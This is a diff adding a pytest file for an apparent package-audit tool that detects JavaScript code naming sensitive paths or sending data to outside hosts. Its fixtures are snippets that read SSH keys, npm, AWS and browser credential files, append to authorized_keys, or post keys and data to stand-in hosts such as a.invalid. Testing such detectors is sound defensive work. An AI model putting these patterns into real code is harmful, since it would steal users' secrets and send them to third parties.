@@ -1,0 +1,116 @@
+"""Places and addresses that code names away from a power: silent texts, then those that are told."""
+
+from __future__ import annotations
+
+import pytest
+from support.packages import analysed, contents
+
+from audit.capabilities import mentions
+
+REQUIRE = "const http = require('http-x'); "
+PAGE = "document.title; "
+
+
+def told(code: str) -> list[tuple[str, str, str]]:
+    found = mentions(analysed(contents({"index.js": code})))
+    return [(each.mentioned.value, each.to, each.text) for each in found]
+
+
+SILENT = {
+    "a comment": "require('fs') // read('/home/u/.npmrc')\n/* '.ssh/id_rsa' */",
+    "a regular expression": "require('fs'); /\\/.ssh/.test(x)",
+    "a sentence": "require('fs'); console.log('# add this to your ~/.bashrc or ~/.zshrc: eval x')",
+    "a member": "require('fs'); config.ssh.npmrc = a.aws",
+    "no code that does anything": "module.exports = '/home/u/.npmrc'",
+    "an extension": "require('fs'); read('index.profile.js'); f('a.azure')",
+    "a link that people follow": PAGE + "a.href = 'https://docs.example/x'",
+    "the same place": PAGE + "img.src = './a.png'; img.src = url",
+    "an address of data": PAGE + "img.src = 'data:image/png;base64,AAAA'",
+    "no page": "require('fs'); job.src = 'https://a.example/x'",
+    "compared": PAGE + "if (img.src == 'https://a.example/x') f()",
+    "a file of its own": "const http = require('./http'); http.get('https://a.example/x')",
+    "a message": REQUIRE + "throw new Error('https://docs.example/why')",
+    "a later argument": REQUIRE + "http.get(x, 'https://a.example/x')",
+    "another name": REQUIRE + "https.get('https://a.example/x'); xhttp.get('https://b.example')",
+    "a comment before it": REQUIRE + "// http.get('https://a.example/x')",
+}
+
+
+@pytest.mark.parametrize("code", SILENT.values(), ids=SILENT)
+def test_silent(code: str) -> None:
+    assert told(code) == []
+
+
+PATHS = {
+    "beside no power": ("read('.npmrc')", ".npmrc"),
+    "in a folder": ('read("/home/u/.ssh/id_rsa")', "/home/u/.ssh/id_rsa"),
+    "after a substitution": ("read(`${home}/.aws/credentials`)", "${home}/.aws/credentials"),
+    "at the beginning of a template": ("read(`/proc/${pid}/mem`)", "/proc/${pid}/mem"),
+    "in a list": ("for (const f of ['a', '/.netrc']) read(f)", "/.netrc"),
+    "with spaces": ("read(a + '/User Data/Login Data')", "/User Data/Login Data"),
+    "a key": ("add('.ssh/authorized_keys')", ".ssh/authorized_keys"),
+}
+
+
+@pytest.mark.parametrize(("code", "text"), PATHS.values(), ids=PATHS)
+def test_a_path(code: str, text: str) -> None:
+    assert told(f"const read = require('./r'); {code}") == [("path", "", text)]
+
+
+ELEMENTS = {
+    "assigned": ("s.src = 'https://a.invalid/x.js'", "src", "https://a.invalid/x.js"),
+    "with a query": ("new Image().src = `https://a.invalid/?${c}`", "src", "https://a.invalid/?"),
+    "joined": ("f.action = 'https://a.invalid/' + id", "action", "https://a.invalid/"),
+    "without a scheme": ("s.src = '//a.invalid/x.js'", "src", "//a.invalid/x.js"),
+    "through a name": ("const HOST = 'https://a.invalid/x'; s.src = HOST", "src", "https://a.invalid/x"),
+    "set": ("e.setAttribute('src', \"https://a.invalid\")", "src", "https://a.invalid"),
+    "in markup": ("e.innerHTML = '<iframe src=\"https://a.invalid/i\">'", "src", "https://a.invalid/i"),
+    "in an object": (
+        "Object.assign(document.createElement('script'), { async: true, src: 'https://a.invalid' })",
+        "src",
+        "https://a.invalid",
+    ),
+    "in compiled markup": ("jsx('img', { src: 'https://a.invalid/?' + v })", "src", "https://a.invalid/?"),
+    "in a style": ("s.textContent = 'b{background:url(https://a.invalid/b)}'", "url", "https://a.invalid/b"),
+    "the page itself": ("location = 'https://a.invalid/p'", "location", "https://a.invalid/p"),
+    "where the page goes": ("location.replace('https://a.invalid/p')", "location.replace", "https://a.invalid/p"),
+    "a style sheet": (
+        "const l = document.createElement('link'); l.href = 'https://a.invalid/s'",
+        "href",
+        "https://a.invalid/s",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("code", "attribute", "address"), ELEMENTS.values(), ids=ELEMENTS)
+def test_an_element(code: str, attribute: str, address: str) -> None:
+    assert told(PAGE + code) == [("element", attribute, address)]
+
+
+HANDED = {
+    "a member": REQUIRE + "http.post('https://a.invalid/x', key)",
+    "called itself": REQUIRE + "http('https://a.invalid/x')",
+    "in options": REQUIRE + "http({ method: 'POST', url: 'https://a.invalid/x' })",
+    "imported": "import http from 'http-x'; http.post('https://a.invalid/x')",
+    "a part": "import { post as send } from 'http-x'; send('https://a.invalid/x')",
+    "taken apart": "const { post } = require('http-x'); post('https://a.invalid/x')",
+    "compiled": "var h_1 = __importDefault(require('http-x')); (0, h_1.default)('https://a.invalid/x')",
+    "through a name": REQUIRE + "const HOOK = 'https://a.invalid/x'; http.post(HOOK, data)",
+    "in a template": REQUIRE + "const HOOK = 'https://a.invalid/x'; http.post(`${HOOK}/${id}`)",
+}
+
+
+def test_a_host_handed_to_another_package() -> None:
+    code = "const { connect } = require('smtp-x'); connect({ port: 25, host: 'smtp.a.invalid' })"
+    assert told(code) == [("handed", "smtp-x", "//smtp.a.invalid")]
+
+
+@pytest.mark.parametrize("code", HANDED.values(), ids=HANDED)
+def test_handed_to_another_package(code: str) -> None:
+    assert ("handed", "http-x", "https://a.invalid/x") in told(code)
+
+
+def test_a_place_in_code_that_is_loaded_stands_for_all() -> None:
+    files = {"a.js": "require('fs'); f('.npmrc')", "index.js": "require('fs'); f('.npmrc')"}
+    (found,) = mentions(analysed(contents(files)))
+    assert (found.evidence.file, found.evidence.reachable) == ("index.js", True)
